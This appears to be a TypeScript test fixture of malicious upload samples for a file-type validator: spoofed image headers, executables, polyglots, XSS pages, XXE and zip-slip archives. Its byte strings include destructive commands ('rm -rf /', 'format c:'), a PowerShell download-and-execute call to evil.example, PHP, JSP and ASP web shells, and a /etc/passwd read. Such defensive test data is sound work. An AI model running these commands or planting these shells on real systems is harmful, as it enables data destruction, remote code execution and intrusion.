const hex = (digits: string) => Buffer.from(digits, 'hex')
const zip = (entry: string) => Buffer.concat([hex('504b0304140000000000'), Buffer.alloc(16), Buffer.from(entry)])
const page = '<!doctype html><script>alert(document.domain)</script>'
const drawing = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'

/** First bytes of pictures, with nothing of a picture behind them. */
const heads = {
  jpeg: hex('ffd8ffe000104a46494600010100000100010000'),
  png: hex('89504e470d0a1a0a0000000d49484452ffffffffffffffff0806000000'),
  webp: Buffer.concat([Buffer.from('RIFF'), hex('ffffffff'), Buffer.from('WEBPVP8X')]),
}

const programs = {
  'a Windows program': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]),
  'a Linux program': Buffer.concat([hex('7f454c46020101'), Buffer.alloc(500)]),
  'a macOS program': Buffer.concat([hex('cffaedfe'), Buffer.alloc(500)]),
  'a universal macOS program': Buffer.concat([hex('cafebabe00000002'), Buffer.alloc(500)]),
  'a Java class': hex('cafebabe0000003400'),
  WebAssembly: hex('0061736d01000000'),
  'an Android program': Buffer.from('dex\n035\0'),
  'a Windows shortcut': hex('4c0000000114020000000000c000000000000046'),
  'a cabinet': Buffer.from('MSCF\0\0\0\0'),
  'an installer': hex('d0cf11e0a1b11ae1'),
  'a shell script': Buffer.from('#!/bin/sh\nrm -rf /\n'),
  'a batch file': Buffer.from('@echo off\r\nformat c:\r\n'),
  PowerShell: Buffer.from('IEX (New-Object Net.WebClient).DownloadString("https://evil.example")'),
  VBScript: Buffer.from('CreateObject("WScript.Shell").Run "calc"'),
  PHP: Buffer.from('<?php system($_GET["c"]); ?>'),
  JSP: Buffer.from('<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
  ASP: Buffer.from('<% eval request("c") %>'),
  Python: Buffer.from('import os\nos.system("id")\n'),
  JavaScript: Buffer.from('alert(document.cookie)'),
}

const documents = {
  'a page': Buffer.from(page),
  'a page with a mark': Buffer.from(`\ufeff${page}`),
  'a page in UTF-16': Buffer.from(`\ufeff${page}`, 'utf16le'),
  'a page after spaces': Buffer.from(`\n\n   ${page}`),
  XHTML: Buffer.from('<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
  'a drawing with a script': Buffer.from(drawing),
  'a drawing with a declaration': Buffer.from(`<?xml version="1.0"?>${drawing}`),
  'a drawing that reads a file': Buffer.from('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'),
  'a drawing with a page in it': Buffer.from(
    '<svg><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>',
  ),
  'a compressed drawing': hex('1f8b0800000000000003'),
  'entities without end': Buffer.from(
    '<!DOCTYPE a [<!ENTITY a "1"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]><a>&c;</a>',
  ),
  'a style sheet': Buffer.from('@import "https://evil.example/x.css";'),
  'a mail': Buffer.from('MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>'),
  'a Flash film': Buffer.from('CWS\u0008'),
  'rich text': Buffer.from('{\\rtf1{\\object\\objocx}}'),
  PostScript: Buffer.from('%!PS-Adobe-3.0\n(id) (w) file\n'),
  'a vector picture that runs a command': Buffer.from('push graphic-context\nfill "url(https://evil.example|id)"\n'),
  'a playlist that reads a file': Buffer.from('#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n'),
}

const archives = {
  'an archive': zip('a.txt'),
  'an archive that climbs': zip('../../../../etc/cron.d/x'),
  'a workbook with macros': zip('xl/vbaProject.bin'),
  'a Java archive': zip('META-INF/MANIFEST.MF'),
  gzip: hex('1f8b0800000000000003ab000000'),
  RAR: hex('526172211a0701'),
  '7z': hex('377abcaf271c'),
  bzip2: Buffer.from('BZh91AY&SY'),
  xz: hex('fd377a585a00'),
  'a disk image': Buffer.concat([Buffer.alloc(32_769), Buffer.from('CD001')]),
}

const pretenders = Object.fromEntries(
  Object.entries(heads).flatMap(([kind, head]) => [
    [`the first bytes of ${kind}`, head],
    [`the first bytes of ${kind}, then a page`, Buffer.concat([head, Buffer.from(page)])],
    [`the first bytes of ${kind}, then a program`, Buffer.concat([head, Buffer.from('MZ'), Buffer.alloc(500)])],
    [`the first bytes of ${kind}, then noughts`, Buffer.concat([head, Buffer.alloc(10_000)])],
  ]),
)

const others = {
  nothing: Buffer.alloc(0),
  'one byte': Buffer.alloc(1),
  'a GIF with a script': Buffer.from('GIF89a/*\u0000*/=1;alert(1)'),
  'a BMP with a script': Buffer.from('BM/*\u0000*/=1;alert(1)'),
  'a TIFF of a billion pixels': hex('49492a00080000000200000104000100000000ca9a3b'),
}

/** Files that are neither picture nor document, however they are named: what each is, and its bytes. */
export const abuses: readonly { readonly what: string; readonly bytes: Buffer }[] = Object.entries({
  ...programs,
  ...documents,
  ...archives,
  ...pretenders,
  ...others,
}).map(([what, bytes]) => ({ what, bytes }))
